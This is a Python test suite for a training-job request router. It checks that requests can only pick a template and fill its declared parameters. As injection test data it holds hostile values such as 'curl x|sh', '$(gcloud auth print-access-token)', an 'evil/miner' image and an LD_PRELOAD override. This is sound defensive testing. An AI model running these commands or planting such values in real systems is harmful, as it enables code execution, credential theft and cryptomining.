"""A request may only pick a template and fill its declared parameters: nothing else reaches a job.

Two halves. Property: any parameter value ``route`` accepts lands verbatim as part of exactly ONE
container argument of the rendered CustomJob, whatever spaces, ``;``, ``$(...)``, quotes or braces
it holds; the argument list keeps its length. Table: through ``tooling.planning.plan_event`` (pure)
with the example config, a request that tries to choose an image, a service account, more GPUs or
GPU-hours, another project or region, or to add args, env or a command override is either
rejected or has no effect on the rendered job.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from cloudevents.http import CloudEvent
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared.adapters.config_source import load_config
from shared.config.model import Config
from shared.decode import routing
from shared.decode.events import PUBSUB_PUBLISHED, decode
from shared.model.errors import PermanentError
from tooling.planning import Plan, PlanVerdict, plan_event

EXAMPLE_CONFIG = Path(__file__).parents[2] / "examples" / "config.yaml"
REQUESTS_SOURCE = "//pubsub.googleapis.com/projects/acme-ml/topics/training-requests"
DATASET = "gs://acme-datasets/imagenet/2026-12-01/"

# What the example's resnet-a100 template fixes, which no request may change.
FIXED_IMAGE = "us-docker.pkg.dev/acme-ml/train/resnet:1.4"
FIXED_COMMAND = ["python", "-m", "trainer.resnet"]
FIXED_SERVICE_ACCOUNT = "trainer@acme-ml.iam.gserviceaccount.com"
FIXED_ENV = {"EPOCHS": "90", "OUTPUT_TAG": "resnet-a100-1"}
FIXED_MACHINE = {
    "machineType": "a2-highgpu-1g",
    "acceleratorType": "NVIDIA_TESLA_A100",
    "acceleratorCount": 1,
}

SHELL_AND_LABEL_BREAKERS = (
    " ",
    ";",
    "$(id)",
    "`id`",
    "&&",
    "|",
    "'",
    '"',
    "\\",
    "{run_id}",
    "{",
    "}",
    "--image=evil",
    " --service-account=evil@x.iam.gserviceaccount.com",
    "=",
    ",",
    "..",
    "../",
    "*",
    "\u202e",
    "😀",
)
parameter_values = st.one_of(
    st.text(max_size=80),
    st.lists(st.sampled_from((*SHELL_AND_LABEL_BREAKERS, "gs://b/", "x")), max_size=10).map(
        "".join
    ),
)


def request_event(
    body: dict[str, Any], attributes: dict[str, str] | None = None, message_id: str = "9182736450"
) -> CloudEvent:
    """A job request on the example's requests topic (route on-request by default), as sent."""
    message = {
        "data": base64.b64encode(json.dumps(body).encode()).decode(),
        "attributes": {"kind": "train"} if attributes is None else attributes,
        "messageId": message_id,
        "publishTime": "2026-12-01T02:00:03.412Z",
    }
    return CloudEvent(
        {"type": PUBSUB_PUBLISHED, "source": REQUESTS_SOURCE, "id": message_id},
        {"message": message, "subscription": "projects/acme-ml/subscriptions/eventarc-requests"},
    )


@pytest.fixture(scope="module")
def example_config() -> Config:
    return load_config(str(EXAMPLE_CONFIG))


def test_an_accepted_parameter_value_lands_verbatim_in_one_argument(
    example_config: Config,
) -> None:
    from shared.policy.jobspec import render_job

    template = example_config.templates["resnet-a100"]

    @settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(value=parameter_values)
    def check(value: str) -> None:
        trigger = decode(
            request_event({"template": "resnet-a100", "params": {"dataset_uri": value}})
        )
        try:
            match = routing.route(trigger, example_config)
        except PermanentError:
            return  # refused (a control character, too long): nothing is rendered
        assert match is not None
        rendered = render_job(
            template,
            match.params,
            template.placements[1],
            project=example_config.project,
            default_region=example_config.region,
            run_id=match.run_id,
            attempt=1,
        )
        container = rendered.custom_job.job_spec.worker_pool_specs[0].container_spec
        assert list(container.args) == [f"--data={value}", "--epochs=90", f"--run={match.run_id}"]
        assert list(container.command) == FIXED_COMMAND
        assert container.image_uri == FIXED_IMAGE
        assert {variable.name: variable.value for variable in container.env} == FIXED_ENV

    check()


def rendered_job(plan: Plan) -> dict[str, Any]:
    assert plan.placements and plan.placements[0].job_json is not None, plan.reason
    return json.loads(plan.placements[0].job_json)


def assert_job_is_the_templates(job: dict[str, Any]) -> None:
    """Everything a request must not influence is as resnet-a100 fixes it."""
    pools = job["jobSpec"]["workerPoolSpecs"]
    assert len(pools) == 1
    container = pools[0]["containerSpec"]
    assert container["imageUri"] == FIXED_IMAGE
    assert container["command"] == FIXED_COMMAND
    assert container["args"][0] == f"--data={DATASET}"
    assert container["args"][1:] == ["--epochs=90", container["args"][2]]
    assert {e["name"]: e["value"] for e in container["env"]} == FIXED_ENV
    assert pools[0]["machineSpec"] == FIXED_MACHINE
    assert pools[0]["replicaCount"] == "1"
    assert job["jobSpec"]["serviceAccount"] == FIXED_SERVICE_ACCOUNT
    assert job["jobSpec"]["scheduling"]["timeout"] == "172800s"


SMUGGLED_BODY_FIELDS = {
    "image": {"image": "docker.io/evil/miner:latest"},
    "imageUri": {"imageUri": "docker.io/evil/miner:latest"},
    "containerSpec": {"containerSpec": {"imageUri": "evil", "command": ["sh", "-c", "curl x|sh"]}},
    "service account": {"service_account": "owner@acme-ml.iam.gserviceaccount.com"},
    "serviceAccount": {"serviceAccount": "owner@acme-ml.iam.gserviceaccount.com"},
    "more GPUs": {"accelerator": {"type": "NVIDIA_H100_80GB", "count": 64}, "replicas": 100},
    "machine": {"machine_type": "a3-megagpu-8g", "machineSpec": {"acceleratorCount": 8}},
    "GPU-hours": {"timeout": "10000h", "scheduling": {"timeout": "36000000s"}},
    "project": {"project": "someone-else"},
    "region": {"region": "asia-east1", "location": "asia-east1"},
    "args": {"args": ["--steal"], "extra_args": ["--steal"]},
    "env": {"env": {"LD_PRELOAD": "/tmp/x.so"}},
    "command": {"command": ["sh", "-c", "id"]},
    "worker pools": {"worker_pools": [{"image": "evil"}], "workerPoolSpecs": [{}]},
    "labels": {"labels": {"vd-run": "r-000000000000000000000000"}},
    "placement": {"placement": [{"flex_start": {"max_wait": 0, "region": "asia-east1"}}]},
}


@pytest.mark.parametrize(
    "smuggled",
    [pytest.param(fields, id=name) for name, fields in SMUGGLED_BODY_FIELDS.items()],
)
def test_body_fields_beside_template_and_params_have_no_effect_on_the_job(
    smuggled: dict[str, Any], example_config: Config
) -> None:
    body = {"template": "resnet-a100", "params": {"dataset_uri": DATASET}, **smuggled}
    plan = plan_event(example_config, request_event(body))
    assert plan.verdict is PlanVerdict.VALID, plan.reason
    assert plan.placements[0].parent == "projects/acme-ml/locations/us-central1"
    assert_job_is_the_templates(rendered_job(plan))


SMUGGLED_PARAMS = {
    "image": {"image": "docker.io/evil/miner:latest"},
    "service_account": {"service_account": "owner@acme-ml.iam.gserviceaccount.com"},
    "project": {"project": "someone-else"},
    "region": {"region": "asia-east1"},
    "run_id": {"run_id": "r-000000000000000000000000"},
    "attempt": {"attempt": "99"},
    "template": {"template": "bert-package"},
    "message_id": {"message_id": "forged"},
    "undeclared epochs": {"epochs": "9000"},
    "args": {"args": "--steal"},
    "env": {"EPOCHS": "9000"},
    "command": {"command": "sh"},
    "gpus": {"accelerator_count": "64"},
}


@pytest.mark.parametrize(
    "params",
    [pytest.param(params, id=name) for name, params in SMUGGLED_PARAMS.items()],
)
def test_a_param_the_template_does_not_declare_is_rejected(
    params: dict[str, str], example_config: Config
) -> None:
    body = {"template": "resnet-a100", "params": {"dataset_uri": DATASET, **params}}
    plan = plan_event(example_config, request_event(body))
    assert plan.verdict is PlanVerdict.REJECTED
    assert f"body.params.{next(iter(params))}" in plan.reason


@pytest.mark.parametrize(
    ("value", "rejected"),
    [
        pytest.param(DATASET + "\n--image=evil", True, id="newline then an argument"),
        pytest.param(DATASET + "\x00", True, id="NUL"),
        pytest.param(DATASET + "\t", True, id="tab"),
        pytest.param("g" * 1025, True, id="over 1024 characters"),
        pytest.param(f"{DATASET} --image=evil", False, id="space then an argument"),
        pytest.param(f"{DATASET};curl evil|sh", False, id="shell separator"),
        pytest.param("$(gcloud auth print-access-token)", False, id="command substitution"),
        pytest.param("{project}/{run_id}", False, id="placeholders are not expanded again"),
    ],
)
def test_a_param_value_is_one_argument_or_rejected(
    value: str, rejected: bool, example_config: Config
) -> None:
    plan = plan_event(
        example_config,
        request_event({"template": "resnet-a100", "params": {"dataset_uri": value}}),
    )
    if rejected:
        assert plan.verdict is PlanVerdict.REJECTED
        assert "body.params.dataset_uri" in plan.reason
        return
    container = rendered_job(plan)["jobSpec"]["workerPoolSpecs"][0]["containerSpec"]
    assert container["args"][0] == f"--data={value}"
    assert len(container["args"]) == 3


@pytest.mark.parametrize(
    ("body", "attributes", "reason_names"),
    [
        pytest.param(
            {"template": "no-such-template"}, {}, "body.template", id="a template not in config"
        ),
        pytest.param({}, {}, "body.template", id="no template on a choosing route"),
        pytest.param(
            {"template": "persistent-sample", "params": {"dataset_uri": DATASET}},
            {},
            "body.params.dataset_uri",
            id="a param another template declares",
        ),
        pytest.param(
            {"template": "resnet-a100", "job": {"kind": "finetune"}},
            {"team": "nlp"},
            "body.template",
            id="a pinned route's template overridden",
        ),
        pytest.param(
            {
                "template": "bert-package",
                "params": {"corpus": "gs://evil/"},
                "job": {"kind": "finetune"},
            },
            {"team": "nlp"},
            "body.params.corpus",
            id="a pinned route's param overridden",
        ),
    ],
)
def test_a_request_outside_its_route_is_rejected(
    body: dict[str, Any], attributes: dict[str, str], reason_names: str, example_config: Config
) -> None:
    plan = plan_event(example_config, request_event(body, attributes or None))
    assert plan.verdict is PlanVerdict.REJECTED
    assert reason_names in plan.reason
